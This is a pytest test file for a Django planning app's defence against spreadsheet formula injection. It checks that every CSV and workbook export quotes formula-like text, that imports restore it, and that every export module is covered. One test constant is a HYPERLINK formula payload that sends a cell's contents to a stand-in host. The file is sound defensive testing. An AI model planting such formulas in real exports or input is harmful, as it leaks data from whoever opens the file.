"""No export hands out a live formula (issue 14): text people typed that begins with `=`,
`+`, `-`, `@`, a tab or a carriage return leaves every CSV and workbook with a quote in
front (partnerships/spreadsheets.py), and our imports take the quote off again.

Two lists here grow with the app:
- EXPORTS: every URL that sends a CSV or a workbook. A test fails when a module starts
  sending one without being listed.
- Poisoned(): every field people type into that an export shows. Add a line for each new
  one; the test fails if a poisoned field shows in no export (it would prove nothing).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from funding.models import Bid, BidDecision, Scenario, ScenarioMove, Spend
from indicators.models import Actual
from partnerships.models import Partnership
from partnerships.spreadsheets import FORMULA_START, restore_cell, safe_cell, safe_row
from tests.factories import make_organisation, make_outcome, make_person, make_theme
from tests.funding.factories import make_allocation, make_bid, make_fund
from tests.indicators.factories import make_indicator, make_target, set_values
from tests.plans.factories import (
    make_action,
    make_funding_line,
    make_milestone,
    make_plan,
    make_risk,
)

ROOT = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://x.test/?leak="&A1,"x")'


# --- the function ---------------------------------------------------------------------------


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_a_formula_gets_a_quote_in_front(lead):
    assert safe_cell(f"{lead}1+1") == f"'{lead}1+1"


@pytest.mark.parametrize(
    "text", [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "-", "-5"]
)
def test_dangerous_text_comes_back_from_an_import_exactly(text):
    assert safe_cell(text) == f"'{text}"
    assert restore_cell(safe_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["Fund the IDVA service", "", " =1+1", "1+1", "'quoted'", "a=b", "NI 32", "'", "''"]
)
def test_harmless_text_is_left_alone_and_comes_back_alone(text):
    assert safe_cell(text) == text
    assert restore_cell(text) == text


def test_text_already_quoted_before_a_formula_gets_one_more_so_it_round_trips():
    assert safe_cell("'=1+1") == "''=1+1"
    assert restore_cell("''=1+1") == "'=1+1"
    assert restore_cell("'=1+1") == "=1+1"  # one quote only, never two


@pytest.mark.parametrize(
    "value",
    [
        None,
        0,
        -5,
        -0.25,
        Decimal("-157540.00"),
        True,
        dt.date(2009, 6, 30),
        dt.datetime(2009, 6, 30, 10, 30),
    ],
)
def test_numbers_dates_booleans_and_none_are_left_as_they_are(value):
    assert safe_cell(value) is value
    assert restore_cell(value) is value


def test_characters_a_workbook_cannot_hold_are_dropped_before_the_check():
    assert safe_cell("\x01=1+1") == "'=1+1"
    assert safe_cell("line\x0bbreak") == "linebreak"


def test_choices_stay_what_they_are_unless_they_would_run():
    assert safe_cell(Partnership.Kind.THEMATIC) is Partnership.Kind.THEMATIC


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1", -1, None, "ok"]) == ["'=1", -1, None, "ok"]


# --- every export, with every field people type poisoned ------------------------------------

PERIOD = "2009/10 Q2"
EXPORTS = [
    f"/indicators/scorecard/?period={PERIOD}&format=csv",
    f"/indicators/scorecard/?period={PERIOD}&format=xlsx",
    f"/indicators/exceptions/?period={PERIOD}&format=csv",
    f"/indicators/exceptions/?period={PERIOD}&format=xlsx",
    "/indicators/export.xlsx",
    "/indicators/import/template.xlsx",
    "/plans/impact/?format=csv",
    "/plans/impact/?format=xlsx",
    "/plans/{plan}/export/",
    "/funding/ledger.xlsx",
    "/funding/scenarios/{scenario}.xlsx",
]
# The modules that send those files, and the export URL each one answers.
SENDERS = {
    "plans/views/thread.py": "/plans/impact/",
    "indicators/views/reports.py": "/indicators/scorecard/",
    "indicators/views/workbook.py": "/indicators/export.xlsx",
    "plans/views/plans.py": "/plans/{plan}/export/",
    "funding/exports.py": "/funding/ledger.xlsx",
    "funding/views_scenarios.py": "/funding/scenarios/",
}
APPS = ["work", "partnerships", "indicators", "plans", "funding", "meetings"]
LEADS = ["=1+1 ", "+1+1 ", "-1+1 ", "@SUM(1) ", "\t=1+1 ", "\r=1+1 "]


class Poisoned:
    """poison("where") → a text starting a formula and carrying a marker, remembered so
    the test can check the marker showed up in some export."""

    def __init__(self) -> None:
        self.markers: dict[str, str] = {}

    def __call__(self, where: str, lead: str | None = None) -> str:
        number = len(self.markers)
        marker = f"PZ{number:02d}"
        self.markers[marker] = where
        return (lead or LEADS[number % len(LEADS)]) + marker


def _update(instance, **fields) -> None:
    type(instance).objects.filter(pk=instance.pk).update(**fields)


@pytest.fixture
def poisoned(world):
    poison = Poisoned()
    essex, cwop = world.essex, world.cwop
    _update(cwop, name=poison("partnership name"), short_name=poison("partnership short name"))
    cwop.refresh_from_db()
    person = make_person(essex, poison("person name"))
    organisation = make_organisation(essex, poison("organisation name"))
    theme = make_theme(essex, poison("theme name"), partnership=cwop)
    outcome = make_outcome(theme, "Fewer repeat victims", code=poison("outcome code"))
    indicator = make_indicator(
        essex,
        poison("indicator code"),
        title=poison("indicator title", HYPERLINK),
        unit=poison("indicator unit"),
        data_source=poison("indicator data source"),
        definition=poison("indicator definition"),
        polarity="higher",
    )
    target = make_target(
        cwop, indicator, lead=person, data_owner=person, outcome=outcome,
        tolerance=Decimal(5), baseline=None,
        baseline_awaited_reason=poison("target baseline awaited reason"),
    )  # fmt: skip
    set_values(target, **{"2009/10": "55", PERIOD: "50"})
    Actual.objects.create(
        target=target, period="2009/10 Q1", value=None,
        missing_reason=poison("actual missing reason"),
    )  # fmt: skip
    Actual.objects.create(  # a negative figure: red, so on the exception report too
        target=target, period=PERIOD, value=Decimal("-40"), commentary=poison("commentary")
    )
    plan = make_plan(
        cwop,
        poison("plan title"),
        resources_summary=poison("plan resources summary"),
        equality_reference=poison("plan equality reference"),
    )
    action = make_action(
        plan, poison("action title", HYPERLINK), ref=poison("action ref"), lead=person,
        description=poison("action description"), progress_note=poison("action progress"),
    )  # fmt: skip
    action.contributors.add(person)
    action.contributing_organisations.add(organisation)
    make_milestone(action, poison("milestone title"))
    make_risk(plan, description=poison("risk"), mitigation=poison("risk mitigation"))
    make_funding_line(plan, action=action, description=poison("plan funding line"))
    fund = make_fund(essex, poison("fund name"))
    make_allocation(fund, cwop, "1000")
    bid = make_bid(cwop, fund, {"2009/10": "500"}, Bid.Status.APPROVED,
                   title=poison("bid title", HYPERLINK))  # fmt: skip
    BidDecision.objects.create(
        bid=bid, from_status=Bid.Status.ENDORSED, to_status=Bid.Status.APPROVED,
        decided_on=dt.date(2009, 6, 1), note=poison("bid decision note"),
    )  # fmt: skip
    Spend.objects.create(
        award=bid.awards.get(), quarter=1, amount=Decimal("100"), note=poison("spend note")
    )
    scenario = Scenario.objects.create(
        agreement=essex, name=poison("scenario name"), notes=poison("scenario notes")
    )
    ScenarioMove.objects.create(
        scenario=scenario, from_bid=bid, from_year="2009/10", amount=Decimal("1"),
        note=poison("scenario move note"),
    )  # fmt: skip
    return plan, poison.markers


_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def exported_cells(response) -> list[str]:
    """Every text cell of a CSV or workbook download; fails on a formula cell."""
    if response["Content-Type"].startswith("text/csv"):
        rows = csv.reader(io.StringIO(response.content.decode(), newline=""))
        # In a CSV a field is text either way; a number ("-40") is no formula.
        return [field for row in rows for field in row if not _NUMBER.fullmatch(field)]
    assert "spreadsheetml" in response["Content-Type"]
    book = load_workbook(io.BytesIO(response.content))
    texts = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


@pytest.mark.django_db
def test_no_export_holds_a_live_formula_whatever_people_typed(world, as_user, poisoned):
    plan, markers = poisoned
    client = as_user(world.secretariat)
    seen = []
    for url in EXPORTS:
        scenario = Scenario.objects.values_list("pk", flat=True).first()
        response = client.get(url.format(plan=plan.pk, scenario=scenario))
        assert response.status_code == 200, url
        cells = exported_cells(response)
        live = [cell for cell in cells if cell.startswith(FORMULA_START)]
        assert not live, f"{url} hands out live formulas: {live}"
        seen += cells
    text = "\n".join(seen)
    shown_nowhere = [where for marker, where in markers.items() if marker not in text]
    assert not shown_nowhere, f"poisoned but in no export, so untested: {shown_nowhere}"
    assert f"'{HYPERLINK}PZ" in text  # shown, as text


@pytest.mark.django_db
def test_negative_figures_stay_numbers_in_the_workbooks(world, as_user, poisoned):
    client = as_user(world.secretariat)
    book = load_workbook(io.BytesIO(client.get("/indicators/export.xlsx").content))
    values = [row[3] for row in book["Actuals"].iter_rows(min_row=2, values_only=True)]
    assert -40 in values


def _app_modules() -> list[Path]:
    return [path for app in APPS for path in (ROOT / app).rglob("*.py")]


def test_every_module_that_sends_a_spreadsheet_is_walked():
    senders = {
        str(path.relative_to(ROOT))
        for path in _app_modules()
        if "HttpResponse(" in (text := path.read_text())
        and any(kind in text for kind in ("text/csv", "spreadsheetml", "XLSX"))
    }
    assert senders == set(SENDERS), "add the new export's URL to EXPORTS and SENDERS"
    assert all(any(url.startswith(start) for url in EXPORTS) for start in SENDERS.values())


def test_every_module_that_writes_a_spreadsheet_makes_its_cells_safe():
    writes = re.compile(r"csv\.writer\(|\bWorkbook\(")
    unsafe = [
        str(path.relative_to(ROOT))
        for path in _app_modules()
        if writes.search(text := path.read_text())
        and "from partnerships.spreadsheets import" not in text
    ]
    assert unsafe == []


# --- export, then import -------------------------------------------------------------------

TITLES = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "'=1+1", HYPERLINK, "Plain words"]


@pytest.mark.django_db
def test_a_plan_exported_and_imported_again_keeps_its_formula_like_text(world, as_user):
    plan = make_plan(world.safer)
    for number, title in enumerate(TITLES, start=1):
        make_action(plan, title, ref=str(number), description="=2+2", progress_note="-3 posts")
    client = as_user(world.lead)
    exported = client.get(f"/plans/{plan.pk}/export/").content
    sheet = load_workbook(io.BytesIO(exported))["Actions"]
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
        safe_cell(title) for title in TITLES
    ]

    response = client.post(
        f"/plans/{plan.pk}/import/", {"workbook": SimpleUploadedFile("plan.xlsx", exported)}
    )

    assert response.status_code == 302, response.content.decode()
    actions = plan.actions.order_by("ref")
    assert [a.title for a in actions] == TITLES
    assert {(a.description, a.progress_note) for a in actions} == {("=2+2", "-3 posts")}
